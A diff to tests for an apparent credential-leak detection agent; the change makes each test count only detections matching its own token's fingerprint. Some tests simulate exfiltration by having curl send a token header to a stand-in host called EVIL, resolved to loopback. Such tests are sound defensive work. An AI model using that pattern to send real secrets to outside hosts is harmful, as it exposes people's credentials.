@@ -56,7 +56,10 @@ def run_client(args, with_stderr=False):
     finally:
         agent.stop()
         srv.close()
-    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"]
+    # this test's token only: anything else running on the host is not ours to count
+    fp = agent.key.fingerprint(token)
+    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
+            and l["credential"]["fingerprint"] == fp]
     assert len(hits) == 1, (hits, agent.stderr())
     a = hits[0]
     assert a["tls"]["library"] == args["library"], a
@@ -151,8 +154,10 @@ def test_tls_library_seen_without_loopback_capture():
     token = github_token()
     try:
         curl_client(srv.port, token)
+        fp = agent.key.fingerprint(token)
         hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination", timeout=15)
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=15)
     finally:
         agent.stop()
         srv.close()
@@ -187,8 +192,10 @@ def test_curl_http2_hpack():
                             "-H", "@" + hdr, "--resolve", "%s:%d:127.0.0.1" % (EVIL, port),
                             "https://%s:%d/v1" % (EVIL, port)], capture_output=True, text=True)
         assert r.stdout == "2", r.stdout	# really HTTP/2
+        fp = agent.key.fingerprint(token)
         hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination", timeout=15)
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=15)
     finally:
         agent.stop()
         srv.kill()
@@ -344,8 +351,9 @@ def test_capture_inbound_sees_credentials_received():
         p = subprocess.run(["curl", "-sk", "https://127.0.0.1:%d/creds.txt" % port],
                            capture_output=True, text=True)
         assert token in p.stdout	# the client really received it
-        hits = agent.wait_for(lambda l: l["event"]["action"] == "credential-received",
-                              timeout=15)
+        fp = agent.key.fingerprint(token)
+        hits = agent.wait_for(lambda l: l["event"]["action"] == "credential-received" and
+                              l["credential"]["fingerprint"] == fp, timeout=15)
     finally:
         agent.stop()
         srv.kill()
